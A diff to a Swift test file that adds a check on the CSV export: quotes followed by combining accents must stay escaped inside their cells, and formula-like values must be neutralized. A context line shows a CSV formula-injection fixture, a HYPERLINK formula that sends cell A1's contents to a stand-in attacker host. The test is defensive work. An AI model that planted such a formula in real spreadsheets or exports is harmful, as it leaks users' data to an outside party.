@@ -30,6 +30,20 @@ final class OpenDataTests: XCTestCase {
         XCTAssertTrue(json.contains(#""en" : "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")""#), json)
     }
 
+    /// A quote that a combining accent follows is still a quote: doubled inside its quoted cell,
+    /// so Python's csv module reads the cell back whole (Foundation's replacing compared
+    /// characters and left it single, which closed the cell early).
+    func testAQuoteWithACombiningAccentStaysInsideItsCell() throws {
+        let values = ["a\"\u{301},b", "\"\u{301}", "x\"\u{301}\n=1+1", "é\"e\u{301}\"\u{2028}", "plain, comma", "\u{85}\"\u{301}"]
+        let file = try Fixtures.temporaryDirectory(self, "csv").appendingPathComponent("q.csv")
+        try OpenData.csv(["n", "value"], values.enumerated().map { [String($0.offset), $0.element] }).write(to: file)
+        let read = try Self.pythonCSV(file)
+        XCTAssertEqual(read.count, values.count + 1, "\(read)")
+        for (i, value) in values.enumerated() where i + 1 < read.count {
+            XCTAssertEqual(read[i + 1], [String(i), OpenData.neutralizingFormula(value)], "value \(i)")
+        }
+    }
+
     /// Every line-break form, in values with and without commas, at the start, inside and at
     /// the end: Python's csv module (an independent reader) reads back one row per value, two
     /// cells per row, each cell as written, and no cell starts like a formula.
